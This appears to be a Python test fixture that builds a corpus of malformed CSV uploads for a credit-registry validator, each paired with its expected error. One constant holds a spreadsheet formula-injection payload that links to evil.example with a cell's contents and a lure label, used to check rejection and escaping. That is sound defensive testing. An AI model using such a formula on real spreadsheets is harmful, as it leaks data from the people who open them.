"""The corpus of bad files (issue 4, "Done when"): each is built here, in code, so that its
dates stay valid whatever the day, and each names the error it must get and where.

Every file also carries a valid row that would update the member's existing entry on subject
``KEPT`` (a BLACK ``SEVERE_OVERDUE`` entry made before the upload), so "changes nothing" is
checked against a row that would have changed something.
"""

from __future__ import annotations

import gzip
import random
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.registry.helpers import days_ago, subject
from tests.registry.uploads.helpers import HEADER, csv_bytes, row

KEPT = "corpus-kept"
ANY_LINE = -1
_UPDATE_KEPT = row(KEPT, "BLACK", "FRAUD")  # would change the existing entry's reason


@dataclass(frozen=True)
class BadFile:
    name: str
    build: Callable[[], bytes]
    code: str
    line: int | None  # ANY_LINE: wherever the stream broke
    column: str = ""
    fields: dict[str, str] = field(default_factory=dict)
    # Region settings for the case (a low limit, so the file can stay small).
    region: dict[str, int] = field(default_factory=dict)
    # A value the report must show (escaped) for this case.
    escaped_value: str = ""


def _rows(*rows: dict[str, str]) -> bytes:
    return csv_bytes([_UPDATE_KEPT, *rows])


def _gbk_file() -> bytes:
    return csv_bytes([_UPDATE_KEPT, row("gbk", reference="深圳前海-贷款-0001")], encoding="gbk")


def _truncated_gzip() -> bytes:
    whole = gzip.compress(csv_bytes([_UPDATE_KEPT] + [row(f"gz-{n}") for n in range(200)]))
    return whole[: len(whole) // 2]


def _junk() -> bytes:
    # What arrives when a spreadsheet is sent as it is: a zip container (.xlsx), then noise.
    return b"PK\x03\x04\x14\x00\x06\x00" + random.Random(20261126).randbytes(4096)


def _over_long_line() -> bytes:
    # Line 3 is 5,000 bytes long (the limit is 4 KiB); line 4 is fine again.
    return _rows(row("long", reference="z" * 5000), row("after-long"))


def _more_rows_than_limit() -> bytes:
    return csv_bytes([_UPDATE_KEPT] + [row(f"many-{n}") for n in range(5)])


def _bigger_than_limit_uncompressed() -> bytes:
    return gzip.compress(csv_bytes([_UPDATE_KEPT] + [row(f"big-{n}", reference="r" * 60) for n in range(100)]))


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click to see your full credit report")'

CORPUS: list[BadFile] = [
    BadFile("empty", lambda: b"", "empty_file", None),
    BadFile("header only", lambda: csv_bytes([]), "no_rows", None),
    BadFile(
        "unknown column",
        lambda: csv_bytes([[*_UPDATE_KEPT.values(), "x"]], [*HEADER, "reasn"]),
        "unknown_column",
        1,
        column="reasn",
    ),
    BadFile(
        "formula in a column name",
        lambda: csv_bytes([[*_UPDATE_KEPT.values(), "1"]], [*HEADER, "=1+2"]),
        "unknown_column",
        1,
        column="=1+2",
        escaped_value="=1+2",
    ),
    BadFile(
        "missing column",
        lambda: csv_bytes(
            [[v for k, v in _UPDATE_KEPT.items() if k != "subject_hash"]], [h for h in HEADER if h != "subject_hash"]
        ),
        "missing_column",
        1,
        column="subject_hash",
    ),
    BadFile("no header", lambda: csv_bytes([_UPDATE_KEPT], list(_UPDATE_KEPT.values())), "missing_header", 1),
    BadFile("bad hash", lambda: _rows(row("x", subject_hash="8c19" + "z" * 60)), "invalid_hash", 3, "subject_hash"),
    BadFile("bad date", lambda: _rows(row("bad-date", event_date="2026-02-30")), "invalid_date", 3, "event_date"),
    BadFile("future date", lambda: _rows(row("future", event_date=days_ago(-3))), "future_date", 3, "event_date"),
    BadFile(
        "wrong reason for list",
        lambda: _rows(row("reason", "BLACK", "GOOD_REPAYMENT")),
        "reason_not_for_list",
        3,
        "reason",
    ),
    BadFile(
        "duplicate subject",
        lambda: _rows(row("dup"), row("other"), row("dup", "WHITE", "GOOD_REPAYMENT")),
        "duplicate_subject",
        5,
        "subject_hash",
    ),
    BadFile(
        "wrong field count",
        lambda: _rows(row("short")) + b"RIC," + subject("x").encode() + b"\n",
        "wrong_field_count",
        4,
    ),
    BadFile("over-long line", _over_long_line, "line_too_long", 3),
    BadFile("wrong encoding declared", _gbk_file, "undecodable", 3, fields={"encoding": "utf-8"}),
    BadFile("truncated gzip", _truncated_gzip, "unreadable", ANY_LINE),
    BadFile("binary junk", _junk, "binary_content", 1),
    BadFile(
        "formula-injection reference",
        lambda: _rows(row("formula", reference=FORMULA)),
        "reference_too_long",
        3,
        "reference",
        escaped_value=FORMULA,
    ),
    BadFile(
        "more rows than the limit",
        _more_rows_than_limit,
        "too_many_rows",
        6,
        region={"upload_max_rows": 4},
    ),
    BadFile(
        "bigger than the limit once uncompressed",
        _bigger_than_limit_uncompressed,
        "file_too_large",
        ANY_LINE,
        region={"upload_max_bytes": 8000},
    ),
]
